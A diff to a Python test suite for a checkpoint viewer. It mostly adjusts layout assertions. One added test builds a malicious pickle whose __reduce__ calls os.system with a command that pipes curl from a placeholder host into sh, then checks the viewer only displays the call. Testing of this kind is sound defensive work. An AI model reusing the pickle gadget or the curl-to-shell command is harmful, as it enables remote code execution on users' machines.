@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import warnings
 from pathlib import Path
+from typing import Any
 
 import pytest
 import torch
@@ -114,10 +115,12 @@ async def test_a_tree_line_keeps_shape_and_dtype_and_shortens_the_key_in_the_mid
         await settle(pilot, "j", "j", "l")
         lines = tree_lines(app)
         conv = next(line for line in lines if "[32, 3, 3, 3]" in line)
-        assert "module.conv1.weight  [32, 3, 3, 3] fp32" in conv
         block = next(line for line in lines if "conv1.weight  [32, 32, 3, 3] fp32" in line)
-        # the module. every sibling shares goes first; the layer number stays
-        assert "…layer1.0.conv1.weight  [32, 32, 3, 3] fp32" in block or "…yer1.0.conv1.weight" in block
+        # the module. every sibling shares goes first, on every sibling alike (one depth, one look); the layer
+        # number stays
+        assert "├─ …conv1.weight  [32, 3, 3, 3] fp32" in conv
+        assert "├─ …layer1.0.conv1.weight  [32, 32, 3, 3] fp32" in block or "├─ …yer1.0.conv1.weight" in block
+        assert not any("module." in line for line in lines if "fp32" in line)
         assert tree.virtual_size.width <= tree.size.width, "a line is wider than the tree: it scrolls sideways"
 
 
@@ -443,6 +446,48 @@ async def test_the_detail_panel_of_each_kind_of_node_fits_80_columns(
         lines = detail_lines(app)
         for row in rows:
             assert any(line.startswith(row) for line in lines), (row, lines)  # on one line, not wrapped
+
+
+async def test_the_side_panel_at_80x24_shows_a_tensors_stats_unscrolled_and_its_storage_after(ddp_file: Path) -> None:
+    app = CkptApp(str(ddp_file))
+    async with app.run_test(size=SIZE, notifications=True) as pilot:
+        await loaded(pilot)
+        await settle(pilot, "j", "j", "l", "l", "enter")
+        panel = browser(app).detail
+        assert panel.scroll_y == 0
+        left, top = panel.region.x, panel.region.y
+        lines = screen_text(app).splitlines()[top : top + panel.region.height]
+        shown = [" ".join(line[left : left + panel.region.width].strip("│").split()) for line in lines]
+        for row in ("shape [32, 3, 3, 3]", "min ", "max ", "mean ", "std ", "L2 norm ", "NaN 0", "Inf 0", "zeros "):
+            assert any(line.startswith(row) for line in shown), (row, shown)
+        rows = detail_lines(app)
+        names = [line.split()[0] for line in rows if line]
+        assert names.index("zeros") < names.index("histogram") < names.index("stride") < names.index("storage")
+
+
+class _Payload:
+    """What a malicious download pickles: a call of os.system (recorded by ckpt-tui, never run)."""
+
+    def __reduce__(self) -> tuple[Any, tuple[str]]:
+        import os
+
+        return (os.system, ("echo PWNED > /tmp/never-run/pwned.txt && curl https://example.invalid/x | sh",))
+
+
+async def test_the_side_panel_shows_a_payloads_whole_call_wrapped(tmp_path: Path) -> None:
+    torch.save({"model": {"w": torch.ones(2)}, "payload": _Payload()}, tmp_path / "download.pth")
+    app = CkptApp(str(tmp_path / "download.pth"))
+    async with app.run_test(size=SIZE, notifications=True) as pilot:
+        tree = await loaded(pilot)
+        tree.reveal((("payload",), None))
+        await settle(pilot)
+        panel = browser(app).detail
+        left, top = panel.region.x, panel.region.y
+        lines = screen_text(app).splitlines()[top : top + panel.region.height]
+        shown = "".join(line[left : left + panel.region.width].strip(" │") for line in lines)
+        call = "('echo PWNED > /tmp/never-run/pwned.txt && curl https://example.invalid/x | sh',)"
+        assert call.replace(" ", "") in shown.replace(" ", "")
+        assert "…" not in shown and not Path("/tmp/never-run/pwned.txt").exists()
 
 
 async def test_a_long_key_in_the_detail_title_breaks_after_whole_keys(kinds_file: Path) -> None:
